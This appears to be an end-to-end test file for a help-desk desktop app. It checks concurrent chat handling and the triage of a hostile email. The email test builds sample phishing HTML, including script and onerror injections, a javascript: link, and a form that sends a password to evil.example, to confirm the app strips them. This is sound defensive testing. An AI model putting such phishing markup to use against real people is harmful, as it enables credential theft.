// Golden paths in the real window that need the outside world to speak: two customers
// chatting at once (through the company's channel gateway), and a hostile email whose link
// opens in the system browser only after the agent has seen where it goes.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { api, apiSend, eventually, freshProfile, gateway, launchApp, recordLinksOpened, screenshot, signIn, startServer, visible } from "./harness.mjs";

let server;
const profile = freshProfile();
// The desk opens links with the OS opener (xdg-open, from xdg-utils, as on any Linux
// desktop). This profile's default web browser is a script that writes down what it was
// given: registered as the https/mailto handler the freedesktop way (a .desktop file and
// mimeapps.list), with $BROWSER as the fallback xdg-open also honours.
const { opened, script: browserScript } = recordLinksOpened(profile, ["https", "mailto"]);

before(async () => {
  server = await startServer();
});

after(async () => {
  await server?.stop();
});

/** Not finished: a customer writing in one of these is answered (and it reopens). */
const ACTIVE = new Set(["new", "open", "pending", "on_hold"]);

test("an agent handles two chats at once: each has its unread count, typing shows live, each gets its reply", async () => {
  // Two live chats are routed to Ava (as the chat router or a supervisor would).
  const chats = (await visible(server, "ticket"))
    .filter((t) => t.channel === "chat" && ACTIVE.has(t.status) && (t.assignee_id === null || t.assignee_id === 1))
    .slice(0, 2);
  assert.equal(chats.length, 2, "the demo data has two active chats Ava may take");
  for (const chat of chats) {
    if (chat.assignee_id === 1) continue;
    await apiSend(server, "PATCH", `/v1/tickets/${chat.id}`, { assignee_id: 1 }, {
      headers: { "If-Match": String(chat.version), "Idempotency-Key": `e2e-route-${chat.id}-${Date.now()}` },
    });
  }
  const [a, b] = chats;

  const app = await launchApp(profile, { env: { BROWSER: browserScript } });
  const $ = (selector) => app.browser.$(selector);
  const tab = (id) => $(`[data-testid="chat-tab"][data-ticket-id="${id}"]`);
  const text = async (selector) => String(await (await $(selector)).getProperty("textContent"));
  try {
    await signIn(app, server);
    for (const chat of chats) await (await tab(chat.id)).waitForExist({ timeout: 15_000, timeoutMsg: `chat #${chat.id} is not in the dock` });

    // Reading chat A.
    await (await tab(a.id)).click();
    await eventually(async () => (await text('[data-testid="ticket-subject"]')) === a.subject, `chat #${a.id} is open`);

    // A's customer types, then writes: both show in A at once, and A gains no unread count.
    await gateway(server, `/tickets/${a.id}/typing`, { typing: true });
    await (await $('[data-testid="customer-typing"]')).waitForExist({ timeout: 5_000, timeoutMsg: "typing did not show" });
    const stamp = Date.now();
    const fromA = `Chat A: still waiting on my deposit (${stamp})`;
    await gateway(server, `/tickets/${a.id}/messages`, { text: fromA });
    await eventually(async () => (await text('[data-testid="conversation"]')).includes(fromA), "A's message shows live");
    assert.equal(await (await tab(a.id)).$('[data-testid="chat-unread"]').isExisting(), false, "the open chat is read");

    // B's customer writes meanwhile: B's tab counts it and the window title says so.
    const fromB = `Chat B: my 2FA code never arrives (${stamp})`;
    await gateway(server, `/tickets/${b.id}/messages`, { text: fromB });
    await gateway(server, `/tickets/${b.id}/messages`, { text: `${fromB} — hello?` });
    await eventually(async () => {
      const badge = await (await tab(b.id)).$('[data-testid="chat-unread"]');
      return (await badge.isExisting()) && String(await badge.getProperty("textContent")) === "2";
    }, "B's tab shows 2 unread");
    assert.equal(await app.browser.getTitle(), "(2) Arbiter");
    await screenshot(app.browser, "chats");

    // Answer A, then switch to B: its messages are there and it is read.
    const replyA = `We see your deposit, it credits in 10 minutes (${stamp}).`;
    await send(app, replyA);
    await (await tab(b.id)).click();
    await eventually(async () => (await text('[data-testid="ticket-subject"]')) === b.subject, `chat #${b.id} is open`);
    await eventually(async () => (await text('[data-testid="conversation"]')).includes(fromB), "B's messages are shown");
    await eventually(async () => !(await (await tab(b.id)).$('[data-testid="chat-unread"]').isExisting()), "B is read");
    assert.equal(await app.browser.getTitle(), "Arbiter");
    const replyB = `Let's reset your 2FA: check your email in a minute (${stamp}).`;
    await send(app, replyB);

    // The server has each reply once, on its own chat.
    for (const [chat, reply] of [
      [a, replyA],
      [b, replyB],
    ]) {
      const stored = await eventually(async () => {
        const found = (await api(server, `/v1/tickets/${chat.id}`)).messages.filter((m) => m.text === reply);
        return found.length ? found : null;
      }, `the reply on #${chat.id} reached the server`);
      assert.equal(stored.length, 1, `#${chat.id} got its reply exactly once`);
    }
  } finally {
    await app.close();
  }
});

/** Writes a reply in the open ticket and sends it at once (skipping the undo window). */
async function send(app, reply) {
  const $ = (selector) => app.browser.$(selector);
  await (await $('[data-testid="reply-body"]')).setValue(reply);
  await (await $('[data-testid="send-reply"]')).click();
  const now = await $('[data-testid="send-now"]');
  if (await now.isExisting()) await now.click().catch(() => {});
  await eventually(
    async () => String(await (await $('[data-testid="conversation"]')).getProperty("textContent")).includes(reply),
    "the reply shows in the conversation",
  );
}

test("triaging a hostile email: no script runs, a link opens only after the agent confirms its real address, priority and tags change, and the risk team is asked and answers", async () => {
  const email = (await visible(server, "ticket")).find((t) => t.channel === "email" && ACTIVE.has(t.status));
  assert.ok(email, "the demo data has an active email ticket");
  const target = "https://evil.example/login?next=%2Faccount";
  const html = `<p>Please confirm at <a href="${target}">your account page</a>.</p>
    <script>parent.document.title = "pwned"</script>
    <img src="x" onerror="parent.document.title = 'pwned'">
    <a href="javascript:parent.document.title='pwned'">click</a>
    <form action="https://evil.example/steal"><input name="password"></form>`;
  await gateway(server, `/tickets/${email.id}/messages`, { text: "Please confirm at your account page.", html });

  const app = await launchApp(profile, { env: { BROWSER: browserScript } });
  const $ = (selector) => app.browser.$(selector);
  try {
    // Signed in from the keyring by the first test; on its own, sign in.
    const signInForm = await $('[data-testid="server-url"]');
    await app.browser.waitUntil(async () => (await signInForm.isExisting()) || (await $('[data-testid="search-input"]').isExisting()), {
      timeout: 20_000,
    });
    if (await signInForm.isExisting()) await signIn(app, server);
    const search = await $('[data-testid="search-input"]');
    await search.waitForDisplayed({ timeout: 20_000 });
    await search.setValue(`#${email.id}`);
    const hit = await $('[data-testid="search-hit"]');
    await hit.waitForDisplayed({ timeout: 10_000, timeoutMsg: `#${email.id} is not found` });
    await (await hit.$("button")).click();
    const frames = await eventually(async () => {
      const all = await app.browser.$$('[data-testid="email-frame"]');
      return all.length ? all : null;
    }, "an email frame is shown");
    const frame = frames[frames.length - 1];
    await app.browser.switchFrame(frame);
    const lure = await $(`a[href="${target}"]`);
    await lure.waitForExist({ timeout: 5_000, timeoutMsg: "the link is not in the frame" });
    assert.equal(await $('a[href^="javascript"]').isExisting(), false, "a javascript: link loses its address");
    assert.equal(await $("img[onerror]").isExisting(), false, "event handlers are removed");
    const scripts = await app.browser.$$("script");
    assert.equal(scripts.length, 1, "the email's script is removed; the frame's own reporter stays");
    assert.ok(!String(await scripts[0].getProperty("textContent")).includes("pwned"));
    assert.equal(await $("form").isExisting(), false, "forms are removed");
    // A real mouse click where the link is on screen (WebKitWebDriver's element click
    // misses elements inside frames): the frame's reporter sees it.
    await app.browser.switchFrame(null);
    await app.browser.execute(() => [...document.querySelectorAll('[data-testid="email-frame"]')].at(-1).scrollIntoView({ block: "start" }));
    await app.browser.switchFrame(frame);
    const inFrame = await app.browser.execute((href) => {
      const r = document.querySelector(`a[href="${href}"]`).getBoundingClientRect();
      return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
    }, target);
    await app.browser.switchFrame(null);
    const frameBox = await app.browser.execute(() => {
      const r = [...document.querySelectorAll('[data-testid="email-frame"]')].at(-1).getBoundingClientRect();
      return { x: r.left, y: r.top };
    });
    await app.browser
      .action("pointer")
      .move({ x: Math.round(frameBox.x + inFrame.x), y: Math.round(frameBox.y + inFrame.y), origin: "viewport" })
      .down()
      .up()
      .perform();

    // The desk shows where the link really goes, and nothing opened yet.
    const confirm = await $('[data-testid="link-confirm"]');
    await confirm.waitForDisplayed({ timeout: 5_000, timeoutMsg: "no confirmation was shown" });
    assert.ok(String(await confirm.getProperty("textContent")).includes(target), "the real address is shown");
    assert.equal(existsSync(opened), false, "nothing opens before the agent confirms");
    await screenshot(app.browser, "link-confirm");
    await (await $('[data-testid="open-link"]')).click();
    await eventually(() => existsSync(opened) && readFileSync(opened, "utf8").includes(target), "the system browser got the link");
    assert.equal(readFileSync(opened, "utf8").trim(), target, "exactly that address, once");
    assert.notEqual(await app.browser.getTitle(), "pwned", "no script of the email ran");

    // Triage: it is urgent and a phishing report; the risk team is asked about the domain.
    await (await $('[data-testid="prop-priority"]')).selectByAttribute("value", "urgent");
    const tag = await $('[data-testid="add-tag"]');
    await tag.setValue("phishing");
    await app.browser.keys("Enter");
    await (await $('[data-testid="tab-teams"]')).click();
    await (await $('[data-testid="side-ask"]')).click();
    await (await $('[data-testid="side-team"]')).selectByAttribute("value", "risk");
    const question = `Is evil.example on the block list? (${Date.now()})`;
    await (await $('[data-testid="side-subject"]')).setValue("Phishing domain in a customer email");
    await (await $('[data-testid="side-body"]')).setValue(question);
    await (await $('[data-testid="side-start"]')).click();
    const side = await eventually(async () => {
      const detail = await api(server, `/v1/tickets/${email.id}`);
      return detail.side_conversations.find((c) => c.team === "risk" && detail.side_messages.some((m) => m.text === question && m.side_conversation_id === c.id));
    }, "the question reached the server");
    const detail = await api(server, `/v1/tickets/${email.id}`);
    assert.equal(detail.ticket.priority, "urgent");
    assert.ok(detail.ticket.tags.includes("phishing"), "the tag reached the server");
    assert.equal(detail.side_messages.filter((m) => m.text === question).length, 1, "asked once");

    // The risk team answers from its own tool; the answer shows live, marked as new.
    await gateway(server, `/side-conversations/${side.id}/messages`, { author_name: "Noor · Risk", text: "Yes, blocked since this morning." });
    const answer = await $('[data-testid="side-new-answer"]');
    await answer.waitForExist({ timeout: 5_000, timeoutMsg: "the team's answer did not show" });
    assert.ok(String(await (await $('[data-testid="side-thread"]')).getProperty("textContent")).includes("Noor · Risk"));
    await screenshot(app.browser, "side-conversation");
  } finally {
    await app.close();
  }
});
